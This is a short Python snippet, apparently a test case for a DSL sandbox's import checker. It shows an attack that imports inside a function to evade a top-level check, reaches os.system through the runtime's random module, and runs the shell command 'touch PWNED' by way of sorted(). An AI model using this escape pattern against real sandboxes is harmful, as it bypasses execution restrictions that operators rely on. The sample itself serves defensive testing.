# Attack: an import inside a function, where a check of the module's top level would not look.
def run():
    from dsl.runtime.engine import random as r

    return sorted(["touch PWNED"], key=r._os.system)


run()
